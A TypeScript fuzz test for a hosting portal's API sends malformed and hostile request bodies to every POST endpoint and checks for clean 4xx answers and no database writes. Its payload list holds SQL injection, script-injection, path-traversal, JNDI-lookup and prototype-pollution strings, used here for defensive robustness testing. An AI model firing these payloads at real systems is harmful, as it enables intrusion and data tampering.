import * as account from '@portal/contract/account/calls';
import * as admin from '@portal/contract/admin/calls';
import * as billing from '@portal/contract/billing/calls';
import * as domains from '@portal/contract/domains/calls';
import * as hosting from '@portal/contract/hosting/calls';
import * as agent from '@portal/contract/hosting/agent';
import type { CallDef } from '@portal/contract/http';
import * as mail from '@portal/contract/mail/calls';
import * as session from '@portal/contract/session/calls';
import * as tools from '@portal/contract/tools/calls';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { startWhoisTestServer } from '../integrations/whois/test-server.ts';
import { build, type Res } from '../test/helper.ts';
import { EXPECTATIONS, TARGETS } from './expectations.ts';
import { changedTables, snapshot } from './snapshot.ts';
import { loadTargets } from './targets.ts';

/**
 * Bad input (issue 9): every POST call of the contract is fuzzed from a valid sample (the access
 * matrix's), as staff. Invalid variants (the call's own zod schema refuses them) must get a 400 with
 * the envelope and write nothing; hostile but valid variants (SQL and HTML metacharacters, Unicode,
 * extra fields) must never get a 5xx. Malformed, oversized and non-JSON bodies get a 4xx envelope.
 */

const RUNS = 15;
const ANSWER_WITHIN_MS = 15_000;

const isCall = (v: unknown): v is CallDef =>
  !!v && typeof v === 'object' && 'method' in v && 'path' in v && 'body' in v && 'data' in v;
const contractCalls = [account, admin, billing, domains, hosting, agent, mail, session, tools]
  .flatMap((m) => Object.values(m))
  .filter(isCall);
const byKey = new Map(contractCalls.map((c) => [`${c.method} ${c.path}`, c]));

const whois = await startWhoisTestServer();
const t = await build({ env: { WHOIS_SERVERS: `com=${whois.address}`, WHOIS_TIMEOUT_MS: '1000' } });
afterAll(async () => {
  await t.close();
  await whois.close();
});
const targetOf = await loadTargets(t.db);
const staffToken = await t.token('staff');
const posts = t.app.deps.calls.filter((c) => c.method === 'POST' && c.path.startsWith('/api/'));

/** Values of every wrong shape: types, edges, metacharacters, NUL bytes, Unicode, length. */
const hostileText = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    "' OR '1'='1' --",
    "x'); drop table accounts; --",
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '\uD800',
    '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀 مرحبا \u202Eevil',
    '%00%27',
    '../../../../etc/passwd',
    ['$', '{jndi:ldap://x/a}'].join(''),
    'x'.repeat(100_000),
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', minLength: 200, maxLength: 400 }),
);
const wrongValue = fc.oneof(
  hostileText,
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -1,
    1.5,
    2 ** 31,
    -(2 ** 31) - 1,
    Number.MAX_SAFE_INTEGER + 2,
    1e308,
    -1e308,
  ),
  fc.constantFrom([], {}, ['a', 1], { $gt: '' }, [[[]]]),
  fc.integer(),
  fc.double({ noNaN: true }),
);
const extraKey = fc.constantFrom('__proto__', 'constructor', 'role', 'owner', 'is_admin', 'logname2', '');

type Body = Record<string, unknown>;
function variants(sample: Body, keys: string[]): fc.Arbitrary<unknown> {
  const key = fc.constantFrom(...keys);
  return fc.oneof(
    fc.tuple(key, wrongValue).map(([k, v]) => ({ ...sample, [k]: v })),
    key.map((k) => Object.fromEntries(Object.entries(sample).filter(([name]) => name !== k))),
    fc.tuple(key, wrongValue, extraKey, wrongValue).map(([k, v, x, xv]) => ({ ...sample, [k]: v, [x]: xv })),
    fc.tuple(key, key, wrongValue, wrongValue).map(([a, b, va, vb]) => ({ ...sample, [a]: va, [b]: vb })),
    fc.constantFrom<unknown>({}, [], 'body', 42, null, true, [sample]),
  );
}

async function answer(req: Promise<Res>): Promise<Res> {
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`no answer within ${ANSWER_WITHIN_MS} ms`)), ANSWER_WITHIN_MS);
  });
  try {
    return await Promise.race([req, hang]);
  } finally {
    clearTimeout(timer);
  }
}

const envelopeOk = (res: Res) =>
  typeof res.body === 'object' &&
  res.body !== null &&
  (res.body.status === 0 || res.body.status === 'expired_token') &&
  typeof res.body.message === 'string';

const show = (v: unknown) => JSON.stringify(v)?.slice(0, 200);
const stats = { invalid: 0, valid: 0, raw: 0, statuses: new Map<number, number>() };
const count = (status: number) => stats.statuses.set(status, (stats.statuses.get(status) ?? 0) + 1);

describe('fuzzing every POST call from its contract schema', () => {
  test('every registered POST call is in the contract', () => {
    expect(posts.filter((c) => !byKey.has(`${c.method} ${c.path}`)).map((c) => c.path)).toEqual([]);
  });

  for (const registered of posts) {
    const callKey = `${registered.method} ${registered.path}`;
    test(callKey, async () => {
      const call = byKey.get(callKey) as CallDef;
      const entry = EXPECTATIONS[callKey];
      const name = TARGETS[entry.kind][0];
      const sample = (entry.sample(targetOf(name))?.body ?? {}) as Body;
      const token = registered.token ? staffToken : undefined;
      expect(call.body.safeParse(sample).success, 'the sample itself is valid').toBe(true);
      const shape = (call.body as unknown as { shape?: Record<string, unknown> }).shape ?? {};
      const keys = [...new Set([...Object.keys(sample), ...Object.keys(shape)])];
      const post = (body: unknown) => answer(t.request('POST', registered.path, { token, body }));

      // The valid sample once, without a time limit: a first call may warm a cache (the breach list).
      await t.request('POST', registered.path, { token, body: sample });
      // Invalid variants: refused before any work, with the envelope, and nothing written.
      const before = await snapshot(t.db);
      await fc.assert(
        fc.asyncProperty(variants(sample, keys.length ? keys : ['x']), async (body) => {
          fc.pre(!call.body.safeParse(body).success);
          const res = await post(body);
          stats.invalid++;
          count(res.status);
          const agentCall = registered.path.startsWith('/api/agent/');
          if (agentCall) expect(res.status, show(body)).toBe(401);
          else expect(res.status, `${show(body)} -> ${show(res.body)}`).toBe(400);
          expect(envelopeOk(res), show(res.body)).toBe(true);
        }),
        { numRuns: RUNS, seed: 9, endOnFailure: true },
      );
      // Malformed, oversized and non-JSON bodies.
      const raw = async (payload: string, type: string) => {
        const res = await answer(
          t.app
            .inject({
              method: 'POST',
              url: registered.path,
              headers: { 'content-type': type, ...(token ? { authorization: `Bearer ${token}` } : {}) },
              payload,
            })
            .then((r) => {
              let body: unknown = r.body;
              try {
                body = r.json();
              } catch {}
              return { status: r.statusCode, body, headers: r.headers } as Res;
            }),
        );
        stats.raw++;
        count(res.status);
        expect(res.status, `${type} ${payload.slice(0, 40)}`).toBeGreaterThanOrEqual(400);
        expect(res.status).toBeLessThan(500);
        expect(envelopeOk(res), show(res.body)).toBe(true);
      };
      await raw('{"account": "alice",', 'application/json');
      await raw('{"a":1}}', 'application/json');
      await raw(JSON.stringify({ ...sample, pad: 'x'.repeat(300_000) }), 'application/json');
      await raw(JSON.stringify(sample), 'text/plain');
      expect(changedTables(before, await snapshot(t.db)), 'tables written by refused input').toEqual([]);

      // Hostile values the schema may accept: any answer but a 5xx; 400 when the schema refuses.
      const stringKeys = Object.entries(sample)
        .filter(([, v]) => typeof v === 'string')
        .map(([k]) => k);
      if (stringKeys.length === 0) return;
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...stringKeys), hostileText, async (k, v) => {
          const body = { ...sample, [k]: v };
          const res = await post(body);
          stats.valid++;
          count(res.status);
          expect(res.status, `${show(body)} -> ${show(res.body)}`).toBeLessThan(500);
          if (res.status >= 400) expect(envelopeOk(res), show(res.body)).toBe(true);
          if (!call.body.safeParse(body).success && !registered.path.startsWith('/api/agent/'))
            expect(res.status, `${show(body)} -> ${show(res.body)}`).toBe(400);
        }),
        { numRuns: Math.ceil(RUNS / 2), seed: 9, endOnFailure: true },
      );
    }, 120_000);
  }

  test('prints what was sent', () => {
    console.log(
      `fuzz: ${posts.length} POST calls; ${stats.invalid} invalid variants, ${stats.raw} malformed/oversized/non-JSON bodies, ` +
        `${stats.valid} hostile-value variants; answers by status: ${JSON.stringify(Object.fromEntries([...stats.statuses].sort((a, b) => a[0] - b[0])))}`,
    );
    expect(stats.invalid).toBeGreaterThanOrEqual(posts.length * RUNS);
  });
});
